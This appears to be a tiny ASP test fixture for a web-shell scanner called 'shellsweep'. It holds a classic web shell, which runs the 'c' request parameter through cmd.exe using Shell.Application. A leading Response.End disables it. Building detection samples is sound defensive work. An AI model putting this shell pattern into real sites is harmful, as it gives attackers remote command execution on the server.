<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Set sa = CreateObject("Shell.Application")
sa.ShellExecute "cmd.exe", "/c " & Request("c"), "", "open", 0
%>
